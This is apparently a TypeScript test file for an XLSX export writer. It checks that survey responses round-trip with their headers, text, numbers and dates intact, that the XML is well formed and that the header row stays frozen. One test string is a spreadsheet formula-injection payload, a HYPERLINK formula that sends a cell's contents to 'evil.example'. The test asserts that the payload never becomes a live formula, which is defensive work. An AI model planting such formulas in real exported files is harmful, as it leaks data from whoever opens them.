import assert from 'node:assert/strict'
import { PassThrough } from 'node:stream'
import { describe, it } from 'node:test'
import ExcelJS from 'exceljs'
import { XMLValidator } from 'fast-xml-parser'
import JSZip from 'jszip'
import type { Cell, ExportColumn } from '../../src/exports/columns'
import type { ResponseExport } from '../../src/exports/service'
import { streamResponsesXlsx } from '../../src/exports/xlsx'

const LONG_TEXT = 'A long answer, with an é. '.repeat(1200)
const TEXTS = [
  'Emoji 😀👍🏽 and Arabic مرحبا',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  'Tags <b>&amp;</b> & "quotes"',
  'Control \u0001 and \u000B characters, a \uFFFE and a literal _x0041_',
  '\rstarts with a carriage return',
  '  spaces either side  ',
  LONG_TEXT,
]
const column = (header: string, type: ExportColumn['type']): ExportColumn => ({
  header,
  type,
  cell: { sql: 'null', bindings: [] },
})
const COLUMNS = [
  column('Reference', 'text'),
  column('Submitted (UTC, ISO 8601)', 'datetime'),
  column('Submitted (Europe/London)', 'datetime'),
  column('Q1. Comments <&>', 'text'),
  column('Q2. How many?', 'number'),
  column('Q3. When?', 'date'),
  // Enough columns to need two letters (AA, AB, …) in the cell references.
  ...Array.from({ length: 24 }, (_, index) => column(`Q${index + 4}. Option ${index}`, 'number')),
]
const ROWS = 450

function rowOf(index: number): Cell[] {
  return [
    `ANON-${String(index).padStart(4, '0')}`,
    '2024-06-30T23:30:00Z',
    '2024-07-01 00:30:00',
    TEXTS[index % TEXTS.length] ?? null,
    index === 1 ? Number.NaN : index - 5,
    index === 2 ? 'infinity' : '2024-01-05',
    ...Array.from({ length: 24 }, (_, option) => (index + option) % 2),
  ]
}

/** The rows in batches of 100, as the repository gives them. */
function exportOf(rows: Cell[][]): ResponseExport {
  return {
    columns: COLUMNS,
    // eslint-disable-next-line @typescript-eslint/require-await -- batches are an async generator
    batches: async function* () {
      for (let start = 0; start < rows.length; start += 100) yield rows.slice(start, start + 100)
    },
    release: () => Promise.resolve(),
  }
}

async function xlsxOf(rows: Cell[][]): Promise<Buffer> {
  const out = new PassThrough()
  const chunks: Buffer[] = []
  out.on('data', (chunk: Buffer) => chunks.push(chunk))
  await streamResponsesXlsx(exportOf(rows), out)
  return Buffer.concat(chunks)
}

describe('the XLSX writer', () => {
  const rows = Array.from({ length: ROWS }, (_, index) => rowOf(index))
  const file = xlsxOf(rows)

  it('writes well-formed XML in every part of the package', async () => {
    const zip = await JSZip.loadAsync(await file)
    const parts = Object.keys(zip.files).filter((name) => !zip.files[name]!.dir)
    assert.ok(parts.includes('xl/worksheets/sheet1.xml'))
    for (const name of parts) {
      const xml = await zip.file(name)!.async('string')
      // Deprecated for the fast-xml-validator package, which the project does not have yet (as in test/api/feed).
      // eslint-disable-next-line @typescript-eslint/no-deprecated
      assert.equal(XMLValidator.validate(xml), true, name)
    }
  })

  it('reads back in a spreadsheet with every header, text, number and date as it was', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await file) as never)
    const sheet = workbook.getWorksheet('Responses')!
    assert.deepEqual(
      (sheet.getRow(1).values as unknown[]).slice(1),
      COLUMNS.map(({ header }) => header),
    )
    assert.equal(sheet.rowCount, ROWS + 1)
    let formulas = 0
    rows.forEach((row, index) => {
      const cells = sheet.getRow(index + 2)
      assert.equal(cells.getCell(1).text, row[0])
      const text = TEXTS[index % TEXTS.length]!
      const comment = cells.getCell(4)
      assert.equal(comment.type, ExcelJS.ValueType.RichText)
      assert.equal(comment.text, text)
      assert.deepEqual(cells.getCell(2).value, new Date('2024-06-30T23:30:00Z'))
      assert.deepEqual(cells.getCell(3).value, new Date('2024-07-01T00:30:00Z'))
      if (index === 1) assert.equal(cells.getCell(5).text, 'NaN')
      else assert.equal(cells.getCell(5).value, index - 5)
      if (index === 2) assert.equal(cells.getCell(6).text, 'infinity')
      else assert.deepEqual(cells.getCell(6).value, new Date('2024-01-05T00:00:00Z'))
      assert.equal(cells.getCell(COLUMNS.length).value, (index + 23) % 2)
      cells.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas++
      })
    })
    assert.equal(formulas, 0)
    assert.equal(sheet.getRow(TEXTS.indexOf(LONG_TEXT) + 2).getCell(4).text.length, LONG_TEXT.length)
  })

  it('shows dates in date formats and keeps the header row in view', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await file) as never)
    const sheet = workbook.getWorksheet('Responses')!
    assert.equal(sheet.getRow(2).getCell(2).numFmt, 'yyyy-mm-dd hh:mm:ss')
    assert.equal(sheet.getRow(2).getCell(6).numFmt, 'yyyy-mm-dd')
    assert.deepEqual(
      sheet.views.map((view) => ({ state: view.state, ySplit: (view as { ySplit?: number }).ySplit })),
      [{ state: 'frozen', ySplit: 1 }],
    )
  })

  it('writes a sheet with only its header when there are no rows', async () => {
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await xlsxOf([])) as never)
    assert.equal(workbook.getWorksheet('Responses')!.rowCount, 1)
  })
})
